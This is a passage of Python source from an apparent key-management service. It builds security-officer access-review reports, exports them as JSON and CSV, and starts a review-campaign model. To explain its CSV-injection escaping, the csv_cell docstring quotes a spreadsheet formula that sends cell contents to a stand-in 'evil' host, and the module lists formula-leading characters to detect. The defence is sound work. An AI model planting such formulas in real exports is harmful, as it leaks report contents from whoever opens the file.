"""Access reviews: the report a security officer reads, and the campaign in which they act on it.

Both halves are pure. An adapter fetches principals, issued tokens, proposals, audit records
and key names, and hands them over as plain data; ``build_report`` turns them into an
``AccessReport`` that renders as JSON or as one CSV per section. A review campaign is an
immutable value moved along by ``open_campaign``, ``certify``, ``revoke`` and ``close``; the
adapter stores ``Campaign.to_json()`` and, when a campaign closes, disables the principals
``close`` names. Time is a parameter, never read from a clock, so tests can pin it.

Filters. The time window narrows *activity*: audit records, issued tokens (by ``issued_at``)
and signed approvals (by ``signed_at``). It does not narrow *standing facts*: who exists, which
grants and emergencies exist, and last use and dormancy, which are judged as of ``now`` from
every record (a window a year in the past must not make everyone look dormant). The principal,
dataset and site filters apply to every kind of item that can carry that attribute, and such
an item that lacks or mismatches it is left out; kinds that never carry it are not narrowed:

============  =======================  ======================  =====================
section       principal                dataset (a key name)    site
============  =======================  ======================  =====================
principals    its id                   --                      --
grants        requester, tool or       one of its datasets     its site
              approver
usage         the row's principal      the row's dataset       the row's site
unused keys   uses by that principal   only that key           uses under a grant
                                                               for that site
denials       the record's principal   the record's key        its grant's site
emergencies   declarer, approver or    --                      --
              ender
officials     that official            decisions on restores   decisions on restores
                                       naming it               for it
============  =======================  ======================  =====================

An audit record's site is the site of the grant it was made under (``details.grant``); records
made outside a grant (by the root token, say) have no site and drop out under a site filter.
"""

from __future__ import annotations

import csv
import heapq
import io
import math
import re
from collections import defaultdict
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from enum import StrEnum
from types import MappingProxyType
from typing import TYPE_CHECKING, Any, TypeGuard, TypeVar

from kms.approvals import ProposalKind, ProposalState, Verdict
from kms.errors import ConflictError, InvalidRequestError, NotFoundError, PermissionDeniedError
from kms.identity import Role
from kms.keys import SYSTEM_KEY_PREFIX
from kms.policy import ALLOW, Decision, Deny

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Sequence

    from kms.access import StoredProposalView
    from kms.approvals import Approval
    from kms.identity import Principal

    _Rows = Callable[["AccessReport"], Iterable[tuple[object, ...]]]

DAY = 86_400.0
MAX_LISTED = 500  # denials and share events per official: enough to read, bounded to render
MAX_DORMANT_DAYS = 3650
# Cryptographic uses. Creating, reading or rotating a key is administration: a key that has only
# ever been administered is exactly the unused key a review should find.
KEY_USE_OPERATIONS = frozenset(
    {
        "transit.encrypt",
        "transit.decrypt",
        "transit.rewrap",
        "transit.datakey",
        "transit.sign",
        "transit.verify",
    }
)
DECRYPT_OPERATION = "transit.decrypt"
# Operations in which officials hand over or use their shares.
SHARE_OPERATION_PREFIXES = ("sys.generate-root", "sys.rekey", "ceremony.")
SHARE_OPERATIONS = frozenset({"sys.unseal"})
S = TypeVar("S", bound=StrEnum)
SECTIONS = ("principals", "grants", "usage", "unused-keys", "denials", "emergencies", "officials")


# --- inputs -------------------------------------------------------------------------------


@dataclass(frozen=True)
class TimeWindow:
    """A half-open interval ``[start, end)`` of seconds since the epoch."""

    start: float
    end: float

    def __post_init__(self) -> None:
        if not (_is_time(self.start) and _is_time(self.end)) or self.start > self.end:
            raise InvalidRequestError("time window must have finite start <= end")

    def contains(self, moment: float) -> bool:
        return self.start <= moment < self.end

    def to_json(self) -> dict[str, float]:
        return {"start": self.start, "end": self.end}


@dataclass(frozen=True)
class ReportFilters:
    window: TimeWindow | None = None
    principal: str | None = None
    dataset: str | None = None
    site: str | None = None
    dormant_after_days: int = 90

    def to_json(self) -> dict[str, Any]:
        return {
            "window": None if self.window is None else self.window.to_json(),
            "principal": self.principal,
            "dataset": self.dataset,
            "site": self.site,
            "dormant_after_days": self.dormant_after_days,
        }


# --- the report ---------------------------------------------------------------------------


@dataclass(frozen=True)
class PrincipalEntry:
    id: str
    display_name: str
    roles: tuple[str, ...]
    thumbprint: str
    created_at: float
    created_by: str
    disabled_at: float | None
    last_use: float | None
    dormant: bool

    def to_json(self) -> dict[str, Any]:
        return {
            "id": self.id,
            "display_name": self.display_name,
            "roles": list(self.roles),
            "thumbprint": self.thumbprint,
            "created_at": self.created_at,
            "created_by": self.created_by,
            "disabled_at": self.disabled_at,
            "last_use": self.last_use,
            "dormant": self.dormant,
        }


@dataclass(frozen=True)
class ApproverEntry:
    official: str
    signed_at: float

    def to_json(self) -> dict[str, Any]:
        return {"official": self.official, "signed_at": self.signed_at}


@dataclass(frozen=True)
class GrantEntry:
    id: str
    state: str
    requester: str
    tool: str
    datasets: tuple[str, ...]
    site: str
    reason: str
    approvers: tuple[ApproverEntry, ...]
    decided_at: float | None
    window_end: float | None
    window_open: bool
    uses: int
    max_uses: int | None
    credentials_issued: int
    credentials_revoked: int
    last_use: float | None
    dormant: bool

    def to_json(self) -> dict[str, Any]:
        return {
            "id": self.id,
            "state": self.state,
            "requester": self.requester,
            "tool": self.tool,
            "datasets": list(self.datasets),
            "site": self.site,
            "reason": self.reason,
            "approvers": [a.to_json() for a in self.approvers],
            "decided_at": self.decided_at,
            "window_end": self.window_end,
            "window_open": self.window_open,
            "uses": self.uses,
            "max_uses": self.max_uses,
            "credentials_issued": self.credentials_issued,
            "credentials_revoked": self.credentials_revoked,
            "last_use": self.last_use,
            "dormant": self.dormant,
        }


@dataclass(frozen=True)
class UsageEntry:
    """Credentials issued, and data keys unwrapped or refused, for one principal, dataset, site.

    ``used`` and ``denied`` count unwraps, not requests: a batch of n items is n unwraps, as
    the grant's use counter counts it. Tokens without a scope (logins) have no dataset or site.
    """

    principal: str | None
    dataset: str | None
    site: str | None
    issued: int
    used: int
    denied: int

    def to_json(self) -> dict[str, Any]:
        return {
            "principal": self.principal,
            "dataset": self.dataset,
            "site": self.site,
            "issued": self.issued,
            "used": self.used,
            "denied": self.denied,
        }


@dataclass(frozen=True)
class DenialEntry:
    time: float
    principal: str | None
    operation: str
    key: str | None
    status: int | None
    reason: str | None
    request_id: str

    def to_json(self) -> dict[str, Any]:
        return {
            "time": self.time,
            "principal": self.principal,
            "operation": self.operation,
            "key": self.key,
            "status": self.status,
            "reason": self.reason,
            "request_id": self.request_id,
        }


class EmergencyStatus(StrEnum):
    ACTIVE = "active"
    ENDED = "ended"  # by an approved end-emergency proposal
    EXPIRED = "expired"  # its declared duration ran out


@dataclass(frozen=True)
class EmergencyEntry:
    proposal_id: str
    declared_by: str
    approvers: tuple[ApproverEntry, ...]
    justification: str
    declared_at: float
    scheduled_end: float
    status: EmergencyStatus
    ended_at: float | None
    ended_by_proposal: str | None
    ended_by: str | None

    def to_json(self) -> dict[str, Any]:
        return {
            "proposal_id": self.proposal_id,
            "declared_by": self.declared_by,
            "approvers": [a.to_json() for a in self.approvers],
            "justification": self.justification,
            "declared_at": self.declared_at,
            "scheduled_end": self.scheduled_end,
            "status": self.status.value,
            "ended_at": self.ended_at,
            "ended_by_proposal": self.ended_by_proposal,
            "ended_by": self.ended_by,
        }


@dataclass(frozen=True)
class ShareEvent:
    time: float
    operation: str
    decision: str
    request_id: str

    def to_json(self) -> dict[str, Any]:
        return {
            "time": self.time,
            "operation": self.operation,
            "decision": self.decision,
            "request_id": self.request_id,
        }


@dataclass(frozen=True)
class OfficialEntry:
    official: str
    share_events: tuple[ShareEvent, ...]  # newest first, at most MAX_LISTED
    share_events_total: int
    approvals: int
    denials: int
    last_decision: float | None

    def to_json(self) -> dict[str, Any]:
        return {
            "official": self.official,
            "share_events": [e.to_json() for e in self.share_events],
            "share_events_total": self.share_events_total,
            "approvals": self.approvals,
            "denials": self.denials,
            "last_decision": self.last_decision,
        }


@dataclass(frozen=True)
class AccessReport:
    generated_at: float
    filters: ReportFilters
    principals: tuple[PrincipalEntry, ...]
    grants: tuple[GrantEntry, ...]
    usage: tuple[UsageEntry, ...]
    unused_keys: tuple[str, ...]
    denials: tuple[DenialEntry, ...]  # newest first, at most MAX_LISTED
    denials_total: int
    emergencies: tuple[EmergencyEntry, ...]
    officials: tuple[OfficialEntry, ...]
    # Records without a time or operation: counted, so a report never hides that it ignored some.
    skipped_records: int

    def to_json(self) -> dict[str, Any]:
        return {
            "generated_at": self.generated_at,
            "filters": self.filters.to_json(),
            "principals": [p.to_json() for p in self.principals],
            "grants": [g.to_json() for g in self.grants],
            "usage": [u.to_json() for u in self.usage],
            "unused_keys": list(self.unused_keys),
            "denials": {
                "total": self.denials_total,
                "truncated": self.denials_total > len(self.denials),
                "listed": [d.to_json() for d in self.denials],
            },
            "emergencies": [e.to_json() for e in self.emergencies],
            "officials": [o.to_json() for o in self.officials],
            "skipped_records": self.skipped_records,
        }


# --- building it --------------------------------------------------------------------------


@dataclass(frozen=True)
class _Event:
    """The fields of an audit record a review reads, checked once."""

    time: float
    operation: str
    decision: str
    request_id: str
    status: int | None
    principal: str | None
    key: str | None
    reason: str | None
    grant: str | None
    official: str | None
    items: int

    @property
    def allowed(self) -> bool:
        return self.decision == "allow"

    @property
    def denied(self) -> bool:
        return self.decision == "deny"


@dataclass(frozen=True)
class _Grant:
    datasets: tuple[str, ...]
    site: str


def build_report(
    *,
    principals: Iterable[Principal],
    issued_tokens: Iterable[Mapping[str, Any]],
    proposals: Iterable[StoredProposalView],
    audit_records: Iterable[Mapping[str, Any]],
    key_names: Iterable[str],
    now: float,
    dormant_after_days: int = 90,
    window: TimeWindow | None = None,
    principal: str | None = None,
    dataset: str | None = None,
    site: str | None = None,
) -> AccessReport:
    """Everything a security officer reviews, as of ``now``, from data an adapter fetched.

    Inputs are read once each; audit records may be a generator. A record without a usable
    time or operation is skipped and counted in ``skipped_records``.
    """
    if not _is_time(now):
        raise InvalidRequestError("now must be a finite time")
    if (
        not isinstance(dormant_after_days, int)
        or isinstance(dormant_after_days, bool)
        or not 1 <= dormant_after_days <= MAX_DORMANT_DAYS
    ):
        raise InvalidRequestError(f"dormant_after_days must be between 1 and {MAX_DORMANT_DAYS}")
    for name, value in (("principal", principal), ("dataset", dataset), ("site", site)):
        if value is not None and (not isinstance(value, str) or not value):
            raise InvalidRequestError(f"{name} filter must be a non-empty string")
    filters = ReportFilters(window, principal, dataset, site, dormant_after_days)
    ctx = _Context(filters, now)

    people = list(principals)
    views = list(proposals)
    ctx.grants = {
        v.proposal.id: _grant_of(v) for v in views if v.proposal.kind is ProposalKind.RESTORE
    }
    tokens = [t for t in issued_tokens if isinstance(t.get("principal"), str)]
    skipped = 0
    events: list[_Event] = []
    for record in audit_records:
        event = _event(record)
        if event is None:
            skipped += 1
        else:
            events.append(event)
    ctx.index(events)

    denials_total, denials = _denials(ctx, events)
    return AccessReport(
        generated_at=now,
        filters=filters,
        principals=_principals(ctx, people),
        grants=_grants(ctx, views, tokens),
        usage=_usage(ctx, tokens, events),
        unused_keys=_unused_keys(ctx, key_names, events),
        denials=denials,
        denials_total=denials_total,
        emergencies=_emergencies(ctx, views),
        officials=_officials(ctx, people, views, events),
        skipped_records=skipped,
    )


class _Context:
    """The filters, ``now``, and what several sections look up: grants and last uses."""

    def __init__(self, filters: ReportFilters, now: float) -> None:
        self.filters = filters
        self.now = now
        self.dormant_after = filters.dormant_after_days * DAY
        self.grants: dict[str, _Grant] = {}
        self.last_use_by_principal: dict[str, float] = {}
        self.last_use_by_grant: dict[str, float] = {}

    def index(self, events: Iterable[_Event]) -> None:
        """Last uses are standing facts: every allowed record counts, whatever the filters."""
        for event in events:
            if not event.allowed:
                continue
            if event.principal is not None:
                _keep_latest(self.last_use_by_principal, event.principal, event.time)
            if event.grant is not None:
                _keep_latest(self.last_use_by_grant, event.grant, event.time)

    def dormant(self, last_use: float | None, since: float) -> bool:
        """Unused for the dormancy period: since the last use, or since ``since`` if never used.

        Exactly the period without use is dormant: "no use for 90 days" holds on day 90.
        """
        reference = since if last_use is None else last_use
        return self.now - reference >= self.dormant_after

    def in_window(self, moment: float) -> bool:
        window = self.filters.window
        return window is None or window.contains(moment)

    def site_of(self, event: _Event) -> str | None:
        grant = None if event.grant is None else self.grants.get(event.grant)
        return None if grant is None else grant.site

    def event_matches(self, event: _Event) -> bool:
        """An activity record within the window and every filter that applies to records."""
        f = self.filters
        return (
            self.in_window(event.time)
            and (f.principal is None or event.principal == f.principal)
            and (f.dataset is None or event.key == f.dataset)
            and (f.site is None or self.site_of(event) == f.site)
        )

    def concerns(self, grant: _Grant | None) -> bool:
        """Whether a proposal passes the dataset and site filters (only restores carry them)."""
        f = self.filters
        if f.dataset is None and f.site is None:
            return True
        if grant is None:
            return False
        return (f.dataset is None or f.dataset in grant.datasets) and (
            f.site is None or grant.site == f.site
        )


def _principals(ctx: _Context, principals: Iterable[Principal]) -> tuple[PrincipalEntry, ...]:
    entries = []
    for p in principals:
        if ctx.filters.principal is not None and p.id != ctx.filters.principal:
            continue
        last_use = ctx.last_use_by_principal.get(p.id)
        entries.append(
            PrincipalEntry(
                id=p.id,
                display_name=p.display_name,
                roles=tuple(sorted(r.value for r in p.roles)),
                thumbprint=p.thumbprint,
                created_at=p.created_at,
                created_by=p.created_by,
                disabled_at=p.disabled_at,
                last_use=last_use,
                # A disabled principal cannot act, so it is not a dormant access to remove.
                dormant=p.active and ctx.dormant(last_use, p.created_at),
            )
        )
    return tuple(sorted(entries, key=lambda e: e.id))


_GRANT_STATES = frozenset({ProposalState.APPROVED, ProposalState.REVOKED, ProposalState.EXPIRED})


def _grants(
    ctx: _Context, views: Sequence[StoredProposalView], tokens: Sequence[Mapping[str, Any]]
) -> tuple[GrantEntry, ...]:
    issued: dict[str, int] = defaultdict(int)
    revoked: dict[str, int] = defaultdict(int)
    for token in tokens:
        proposal_id = token.get("proposal_id")
        if isinstance(proposal_id, str):
            issued[proposal_id] += 1
            if token.get("revoked_at") is not None:
                revoked[proposal_id] += 1
    f = ctx.filters
    entries = []
    for view in views:
        proposal = view.proposal
        state = _effective_state(view, ctx.now)
        if proposal.kind is not ProposalKind.RESTORE or state not in _GRANT_STATES:
            continue
        grant = ctx.grants[proposal.id]
        payload = proposal.payload
        tool = _text(payload.get("tool"))
        approvers = _approvers(view.approvals)
        parties = {proposal.requester, tool, *(a.official for a in approvers)}
        if (f.principal is not None and f.principal not in parties) or not ctx.concerns(grant):
            continue
        ttl = payload.get("ttl")
        window_end = None
        if view.decided_at is not None and _is_count(ttl):
            window_end = view.decided_at + ttl
        window_open = (
            state is ProposalState.APPROVED and window_end is not None and ctx.now < window_end
        )
        last_use = ctx.last_use_by_grant.get(proposal.id)
        since = proposal.created_at if view.decided_at is None else view.decided_at
        entries.append(
            GrantEntry(
                id=proposal.id,
                state=state.value,
                requester=proposal.requester,
                tool=tool,
                datasets=grant.datasets,
                site=grant.site,
                reason=_text(payload.get("reason")),
                approvers=approvers,
                decided_at=view.decided_at,
                window_end=window_end,
                window_open=window_open,
                uses=view.uses,
                max_uses=view.max_uses,
                credentials_issued=issued[proposal.id],
                credentials_revoked=revoked[proposal.id],
                last_use=last_use,
                dormant=window_open and ctx.dormant(last_use, since),
            )
        )
    entries.sort(key=lambda g: g.id)
    entries.sort(key=lambda g: -(g.decided_at or 0.0))
    return tuple(entries)


_UsageKey = tuple[str | None, str | None, str | None]


def _usage(
    ctx: _Context, tokens: Sequence[Mapping[str, Any]], events: Sequence[_Event]
) -> tuple[UsageEntry, ...]:
    counts: dict[_UsageKey, list[int]] = defaultdict(lambda: [0, 0, 0])
    for token in tokens:
        issued_at = token.get("issued_at")
        if not _is_time(issued_at) or not ctx.in_window(issued_at):
            continue
        holder = str(token["principal"])
        scope = token.get("scope")
        if isinstance(scope, Mapping) and isinstance(scope.get("datasets"), list):
            site = _text(scope.get("site")) or None
            for name in {d for d in scope["datasets"] if isinstance(d, str)}:
                counts[holder, name, site][0] += 1
        else:
            counts[holder, None, None][0] += 1
    for event in events:
        if event.operation != DECRYPT_OPERATION or not ctx.in_window(event.time):
            continue
        key = (event.principal, event.key, ctx.site_of(event))
        if event.allowed:
            counts[key][1] += event.items
        elif event.denied:
            counts[key][2] += event.items
    f = ctx.filters
    entries = [
        UsageEntry(who, name, site, issued, used, denied)
        for (who, name, site), (issued, used, denied) in counts.items()
        if (f.principal is None or who == f.principal)
        and (f.dataset is None or name == f.dataset)
        and (f.site is None or site == f.site)
    ]
    return tuple(sorted(entries, key=lambda u: (u.principal or "", u.dataset or "", u.site or "")))


def _unused_keys(
    ctx: _Context, key_names: Iterable[str], events: Sequence[_Event]
) -> tuple[str, ...]:
    used = {
        e.key
        for e in events
        if e.allowed and e.operation in KEY_USE_OPERATIONS and ctx.event_matches(e)
    }
    dataset = ctx.filters.dataset
    return tuple(
        sorted(
            {
                name
                for name in key_names
                if not name.startswith(SYSTEM_KEY_PREFIX)
                and name not in used
                and (dataset is None or name == dataset)
            }
        )
    )


def _denials(ctx: _Context, events: Sequence[_Event]) -> tuple[int, tuple[DenialEntry, ...]]:
    matching = [e for e in events if e.denied and ctx.event_matches(e)]
    newest = heapq.nlargest(MAX_LISTED, matching, key=lambda e: (e.time, e.request_id))
    entries = tuple(
        DenialEntry(e.time, e.principal, e.operation, e.key, e.status, e.reason, e.request_id)
        for e in newest
    )
    return len(matching), entries


def _emergencies(ctx: _Context, views: Sequence[StoredProposalView]) -> tuple[EmergencyEntry, ...]:
    """Approved declarations, each ended by the first approved end within its duration.

    Ending an emergency ends every one in force (as the store does), so one end proposal may
    close several overlapping declarations.
    """
    ends = sorted(
        (
            (v.decided_at, v)
            for v in views
            if v.proposal.kind is ProposalKind.END_EMERGENCY
            and v.state is ProposalState.APPROVED
            and v.decided_at is not None
        ),
        key=lambda pair: (pair[0], pair[1].proposal.id),
    )
    entries = []
    for view in views:
        proposal = view.proposal
        duration = proposal.payload.get("duration")
        if (
            proposal.kind is not ProposalKind.DECLARE_EMERGENCY
            or view.state is not ProposalState.APPROVED
            or view.decided_at is None
            or not _is_count(duration)
        ):
            continue
        declared_at = view.decided_at
        scheduled_end = declared_at + duration
        ender = next((e for at, e in ends if declared_at <= at < scheduled_end), None)
        approvers = _approvers(view.approvals)
        parties = {proposal.requester, *(a.official for a in approvers)}
        if ender is not None:
            end_approvers = _approvers(ender.approvals)
            parties |= {ender.proposal.requester, *(a.official for a in end_approvers)}
        if ctx.filters.principal is not None and ctx.filters.principal not in parties:
            continue
        if ender is not None:
            status, ended_at = EmergencyStatus.ENDED, ender.decided_at
        elif ctx.now >= scheduled_end:
            status, ended_at = EmergencyStatus.EXPIRED, scheduled_end
        else:
            status, ended_at = EmergencyStatus.ACTIVE, None
        entries.append(
            EmergencyEntry(
                proposal_id=proposal.id,
                declared_by=proposal.requester,
                approvers=approvers,
                justification=_text(proposal.payload.get("justification")),
                declared_at=declared_at,
                scheduled_end=scheduled_end,
                status=status,
                ended_at=ended_at,
                ended_by_proposal=None if ender is None else ender.proposal.id,
                ended_by=None if ender is None else ender.proposal.requester,
            )
        )
    entries.sort(key=lambda e: e.proposal_id)
    entries.sort(key=lambda e: -e.declared_at)
    return tuple(entries)


def _officials(
    ctx: _Context,
    principals: Iterable[Principal],
    views: Sequence[StoredProposalView],
    events: Sequence[_Event],
) -> tuple[OfficialEntry, ...]:
    """Share handling and votes per official, including former officials and unknown names.

    An unseal naming someone not on the list of officials is exactly what a review should see.
    """
    officials = {p.id for p in principals if Role.OFFICIAL in p.roles}
    shares = _share_events(ctx, events)
    votes: dict[str, list[Approval]] = defaultdict(list)
    for view in views:
        if not ctx.concerns(ctx.grants.get(view.proposal.id)):
            continue
        for approval in view.approvals:
            if ctx.in_window(approval.signed_at):
                votes[approval.official].append(approval)
    # An authenticated principal running a ceremony step is listed only if it is an official.
    named = officials | set(votes)
    named |= {e.official for es in shares.values() for e in es if e.official is not None}
    entries = []
    for official in sorted(named):
        if ctx.filters.principal is not None and official != ctx.filters.principal:
            continue
        own = shares.get(official, [])
        newest = heapq.nlargest(MAX_LISTED, own, key=lambda e: (e.time, e.request_id))
        cast = votes.get(official, [])
        entries.append(
            OfficialEntry(
                official=official,
                share_events=tuple(
                    ShareEvent(e.time, e.operation, e.decision, e.request_id) for e in newest
                ),
                share_events_total=len(own),
                approvals=sum(1 for a in cast if a.verdict is Verdict.APPROVE),
                denials=sum(1 for a in cast if a.verdict is Verdict.DENY),
                last_decision=max((a.signed_at for a in cast), default=None),
            )
        )
    return tuple(entries)


def _share_events(ctx: _Context, events: Iterable[_Event]) -> dict[str, list[_Event]]:
    """Share-handling records in the window, by the official they name or who made them."""
    shares: dict[str, list[_Event]] = defaultdict(list)
    for event in events:
        if _is_share_operation(event.operation) and ctx.in_window(event.time):
            for name in {event.official, event.principal}:
                if name is not None:
                    shares[name].append(event)
    return shares


def _event(record: Mapping[str, Any]) -> _Event | None:
    """An audit record as either ``leaf_json`` (``time_us``) or ``to_json`` (``time``) wrote it."""
    time_us = record.get("time_us")
    if _is_int(time_us):
        moment = time_us / 1_000_000
    elif _is_time(record.get("time")):
        moment = float(record["time"])
    else:
        return None
    operation = record.get("operation")
    if not isinstance(operation, str) or not operation:
        return None
    details = record.get("details")
    if not isinstance(details, Mapping):
        details = {}
    items = details.get("items")
    status = record.get("status")
    return _Event(
        time=moment,
        operation=operation,
        decision=_text(record.get("decision")),
        request_id=_text(record.get("request_id")),
        status=status if _is_int(status) else None,
        principal=_text(record.get("principal")) or None,
        key=_text(record.get("key")) or None,
        reason=_text(record.get("reason")) or None,
        grant=_text(details.get("grant")) or None,
        official=_text(details.get("official")) or None,
        items=items if _is_int(items) and items >= 1 else 1,
    )


def _grant_of(view: StoredProposalView) -> _Grant:
    payload = view.proposal.payload
    datasets = payload.get("datasets")
    names = (
        sorted({d for d in datasets if isinstance(d, str)}) if isinstance(datasets, list) else []
    )
    return _Grant(tuple(names), _text(payload.get("site")))


def _effective_state(view: StoredProposalView, now: float) -> ProposalState:
    """A pending proposal past its expiry is expired, even if no one has stored that yet."""
    if view.state is ProposalState.PENDING and now >= view.proposal.expires_at:
        return ProposalState.EXPIRED
    return view.state


def _approvers(approvals: Iterable[Approval]) -> tuple[ApproverEntry, ...]:
    found = [
        ApproverEntry(a.official, a.signed_at) for a in approvals if a.verdict is Verdict.APPROVE
    ]
    return tuple(sorted(found, key=lambda a: (a.signed_at, a.official)))


def _is_share_operation(operation: str) -> bool:
    return operation in SHARE_OPERATIONS or operation.startswith(SHARE_OPERATION_PREFIXES)


def _keep_latest(latest: dict[str, float], name: str, moment: float) -> None:
    if moment > latest.get(name, -math.inf):
        latest[name] = moment


def _is_int(value: object) -> TypeGuard[int]:
    return isinstance(value, int) and not isinstance(value, bool)


def _is_count(value: object) -> TypeGuard[int]:
    return _is_int(value) and value >= 0


def _is_time(value: object) -> TypeGuard[float]:
    return isinstance(value, (int, float)) and not isinstance(value, bool) and math.isfinite(value)


def _text(value: object) -> str:
    return value if isinstance(value, str) else ""


# --- output -------------------------------------------------------------------------------


def report_to_json(report: AccessReport) -> dict[str, Any]:
    """The report as JSON-ready data; times are seconds since the epoch, as elsewhere in kms."""
    return report.to_json()


# What spreadsheet programs may run as a formula when a cell starts with it (OWASP, "CSV
# Injection"): =, +, - and @, and tab and carriage return, which some programs skip first.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: str) -> str:
    """``value`` made safe to open in a spreadsheet.

    The report carries text others wrote: display names, justifications, denial reasons that
    echo a caller's input. A cell such as ``=HYPERLINK("https://evil/?"&A1)`` would run when
    the officer opens the CSV, and could send the report's contents away or start a program.
    A leading single quote makes the spreadsheet show the text as text. It changes what a
    program reading the CSV sees, which is the accepted price: the export is for people.
    """
    return "'" + value if value.startswith(_FORMULA_STARTS) else value


def report_to_csv(report: AccessReport, section: str) -> str:
    """One section of the report as CSV with a header row; see ``csv_cell`` for escaping.

    Times are ISO 8601 in UTC, lists are joined with ``;``. The JSON form keeps what CSV
    cannot, such as each official's share events.
    """
    try:
        header, rows = _CSV_SECTIONS[section]
    except KeyError:
        raise InvalidRequestError(
            f"unknown report section {section!r}; sections are: {', '.join(SECTIONS)}"
        ) from None
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows(report):
        writer.writerow([csv_cell(_render(v)) for v in row])
    return out.getvalue()


@dataclass(frozen=True)
class _When:
    """A time to render as ISO 8601, told apart from other numbers."""

    seconds: float | None


def _render(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, _When):
        return _iso(value.seconds)
    if isinstance(value, tuple):
        return ";".join(_render(v) for v in value)
    if isinstance(value, ApproverEntry):
        return f"{value.official} ({_iso(value.signed_at)})"
    return str(value)


def _iso(seconds: float | None) -> str:
    if seconds is None:
        return ""
    text = datetime.fromtimestamp(seconds, tz=UTC).isoformat()
    return text.removesuffix("+00:00") + "Z"


def _principal_rows(report: AccessReport) -> Iterable[tuple[object, ...]]:
    for p in report.principals:
        yield (
            p.id,
            p.display_name,
            p.roles,
            p.thumbprint,
            _When(p.created_at),
            p.created_by,
            _When(p.disabled_at),
            _When(p.last_use),
            p.dormant,
        )


def _grant_rows(report: AccessReport) -> Iterable[tuple[object, ...]]:
    for g in report.grants:
        yield (
            g.id,
            g.state,
            g.requester,
            g.tool,
            g.datasets,
            g.site,
            g.reason,
            g.approvers,
            _When(g.decided_at),
            _When(g.window_end),
            g.window_open,
            g.uses,
            g.max_uses,
            g.credentials_issued,
            g.credentials_revoked,
            _When(g.last_use),
            g.dormant,
        )


def _usage_rows(report: AccessReport) -> Iterable[tuple[object, ...]]:
    for u in report.usage:
        yield (u.principal, u.dataset, u.site, u.issued, u.used, u.denied)


def _unused_rows(report: AccessReport) -> Iterable[tuple[object, ...]]:
    for name in report.unused_keys:
        yield (name,)


def _denial_rows(report: AccessReport) -> Iterable[tuple[object, ...]]:
    for d in report.denials:
        yield (_When(d.time), d.principal, d.operation, d.key, d.status, d.reason, d.request_id)


def _emergency_rows(report: AccessReport) -> Iterable[tuple[object, ...]]:
    for e in report.emergencies:
        yield (
            e.proposal_id,
            e.declared_by,
            e.approvers,
            e.justification,
            _When(e.declared_at),
            _When(e.scheduled_end),
            e.status.value,
            _When(e.ended_at),
            e.ended_by_proposal,
            e.ended_by,
        )


def _official_rows(report: AccessReport) -> Iterable[tuple[object, ...]]:
    for o in report.officials:
        last_share = o.share_events[0].time if o.share_events else None
        yield (
            o.official,
            o.share_events_total,
            _When(last_share),
            o.approvals,
            o.denials,
            _When(o.last_decision),
        )


_CSV_SECTIONS: dict[str, tuple[tuple[str, ...], _Rows]] = {
    "principals": (
        (
            "id",
            "display_name",
            "roles",
            "thumbprint",
            "created_at",
            "created_by",
            "disabled_at",
            "last_use",
            "dormant",
        ),
        _principal_rows,
    ),
    "grants": (
        (
            "id",
            "state",
            "requester",
            "tool",
            "datasets",
            "site",
            "reason",
            "approvers",
            "decided_at",
            "window_end",
            "window_open",
            "uses",
            "max_uses",
            "credentials_issued",
            "credentials_revoked",
            "last_use",
            "dormant",
        ),
        _grant_rows,
    ),
    "usage": (
        (
            "principal",
            "dataset",
            "site",
            "issued",
            "used",
            "denied",
        ),
        _usage_rows,
    ),
    "unused-keys": (("key",), _unused_rows),
    "denials": (
        (
            "time",
            "principal",
            "operation",
            "key",
            "status",
            "reason",
            "request_id",
        ),
        _denial_rows,
    ),
    "emergencies": (
        (
            "proposal_id",
            "declared_by",
            "approvers",
            "justification",
            "declared_at",
            "scheduled_end",
            "status",
            "ended_at",
            "ended_by_proposal",
            "ended_by",
        ),
        _emergency_rows,
    ),
    "officials": (
        (
            "official",
            "share_events",
            "last_share_event",
            "approvals",
            "denials",
            "last_decision",
        ),
        _official_rows,
    ),
}


# --- review campaigns ---------------------------------------------------------------------

MIN_CAMPAIGN = 3600.0
MAX_CAMPAIGN = 90 * DAY
MAX_NOTE = 2000
_CAMPAIGN_ID_RE = re.compile(r"[a-z0-9-]{8,64}")


class CampaignState(StrEnum):
    OPEN = "open"
    CLOSED = "closed"


class ItemState(StrEnum):
    PENDING = "pending"
    CERTIFIED = "certified"
    REVOKED = "revoked"


@dataclass(frozen=True)
class Item:
    """One principal's review: pending until an officer other than that principal decides it."""

    state: ItemState = ItemState.PENDING
    decided_by: str | None = None
    decided_at: float | None = None
    note: str = ""

    def __post_init__(self) -> None:
        decided = self.decided_by is not None and self.decided_at is not None
        undecided = self.decided_by is None and self.decided_at is None
        if not isinstance(self.state, ItemState) or not isinstance(self.note, str):
            raise InvalidRequestError("review item malformed")
        if (self.state is ItemState.PENDING and not undecided) or (
            self.state is not ItemState.PENDING and not decided
        ):
            raise InvalidRequestError("a review item is decided exactly when it has a decider")
        if len(self.note) > MAX_NOTE:
            raise InvalidRequestError(f"a review note is limited to {MAX_NOTE} characters")

    def to_json(self) -> dict[str, Any]:
        return {
            "state": self.state.value,
            "decided_by": self.decided_by,
            "decided_at": self.decided_at,
            "note": self.note,
        }

    @classmethod
    def from_json(cls, data: object) -> Item:
        if not isinstance(data, dict) or set(data) != {"state", "decided_by", "decided_at", "note"}:
            raise InvalidRequestError("review item malformed")
        decided_by, decided_at, note = data["decided_by"], data["decided_at"], data["note"]
        if not (
            (decided_by is None or isinstance(decided_by, str))
            and (decided_at is None or _is_time(decided_at))
            and isinstance(note, str)
        ):
            raise InvalidRequestError("review item malformed")
        state = _parse_state(ItemState, data["state"])
        return cls(state, decided_by, None if decided_at is None else float(decided_at), note)


@dataclass(frozen=True)
class Campaign:
    """A review of principals' access, open for a bounded time, then closed for good.

    ``scope`` is ``None`` when the campaign covers every active principal at opening, or the
    principal ids it was opened for. ``items`` is read-only.
    """

    id: str
    opened_by: str
    opened_at: float
    closes_at: float
    state: CampaignState
    scope: tuple[str, ...] | None
    items: Mapping[str, Item] = field(hash=False)
    closed_at: float | None = None
    closed_by: str | None = None

    def __post_init__(self) -> None:
        if not isinstance(self.id, str) or not _CAMPAIGN_ID_RE.fullmatch(self.id):
